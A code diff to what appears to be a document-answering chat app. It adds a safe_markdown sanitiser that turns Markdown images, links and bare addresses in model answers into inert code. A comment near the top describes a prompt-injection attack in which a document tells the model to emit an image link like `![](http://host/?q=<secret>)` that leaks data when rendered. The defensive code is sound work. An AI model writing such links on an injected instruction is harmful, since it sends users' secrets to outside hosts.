@@ -17,6 +17,37 @@ PAGE_IMAGE_WIDTH = 900  # pixels: readable in the chat's column, small to send
 _PDFIUM = threading.Lock()
 
 
+# Markdown that would make the browser fetch or open an address. An answer is the model's
+# text, and a document can tell the model to write `![](http://host/?q=<secret>)`: shown
+# as Markdown, the browser would fetch it the moment it is drawn.
+_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)]*)?\)")
+_REF_IMAGE = re.compile(r"!\[([^\]]*)\]\[([^\]]*)\]")
+_LINK = re.compile(r"\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)]*)?\)")
+_REF_DEFINITION = re.compile(r"^[ ]{0,3}\[([^\]]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.M)
+_AUTOLINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}):[^\s<>]*)>")
+_BARE_ADDRESS = re.compile(r"(?<![`\w/])((?:https?|ftp|file)://[^\s<>`]+|www\.[^\s<>`]+)",
+                           re.IGNORECASE)
+
+
+def _as_code(address: str) -> str:
+    return f"`{address.replace('`', '')}`"
+
+
+def safe_markdown(text: str) -> str:
+    """Markdown with nothing that loads or links: images become a note and their address
+    plain code, links their text and address as code, bare addresses code, raw HTML
+    escaped. Example: safe_markdown("![](http://h/?q=s)") == "[image not shown] `http://h/?q=s`"
+    """
+    text = _IMAGE.sub(lambda m: f"[image not shown{': ' + m[1] if m[1] else ''}] "
+                                f"{_as_code(m[2])}", text)
+    text = _REF_IMAGE.sub(lambda m: f"[image not shown{': ' + m[1] if m[1] else ''}]", text)
+    text = _LINK.sub(lambda m: f"{m[1]} ({_as_code(m[2])})" if m[2] else m[1], text)
+    text = _REF_DEFINITION.sub(lambda m: f"{m[1]}: {_as_code(m[2])}", text)
+    text = _AUTOLINK.sub(lambda m: _as_code(m[1]), text)
+    text = _BARE_ADDRESS.sub(lambda m: _as_code(m[1]), text)
+    return text.replace("<", "&lt;").replace(">", "&gt;")
+
+
 def chip_label(number: int, cite: Citation) -> str:
     """Example: chip_label(1, <a.pdf, page 2>) == "[1] a.pdf · page 2" """
     place = cite.place
@@ -60,8 +91,9 @@ def highlight(passage: str, quote: str) -> str:
 
 def marked_unsupported(answer: Answer) -> str:
     """The answer's Markdown with each "not supported" flag as an orange badge that says
-    why ("⚠ not supported by the documents: the source says 1968")."""
-    text = answer.text
+    why ("⚠ not supported by the documents: the source says 1968"); nothing in it loads
+    or links (`safe_markdown`)."""
+    text = safe_markdown(answer.text)
     for flag in answer.unsupported:
         for lang in ("en", "zh"):
             marker = flag_marker(flag.reason, lang)
@@ -73,14 +105,15 @@ def marked_unsupported(answer: Answer) -> str:
 
 
 def answer_markdown(answer: Answer) -> str:
-    """The answer and its sources as Markdown, for pasting elsewhere."""
-    lines = [f"**Q:** {answer.question}", "", answer.text]
+    """The answer and its sources as Markdown, for pasting elsewhere (where it is rendered
+    again: nothing in it loads or links, `safe_markdown`)."""
+    lines = [f"**Q:** {safe_markdown(answer.question)}", "", safe_markdown(answer.text)]
     if answer.citations:
         lines += ["", "Sources:"]
         for number, cite in enumerate(answer.citations, start=1):
             place = cite.place
             where = f", {place}" if place else ""
-            quote = " ".join(cite.quote.split())
+            quote = safe_markdown(" ".join(cite.quote.split()))
             lines.append(f"{number}. {Path(cite.source).name}{where}: \"{quote}\"")
     return "\n".join(lines)
 
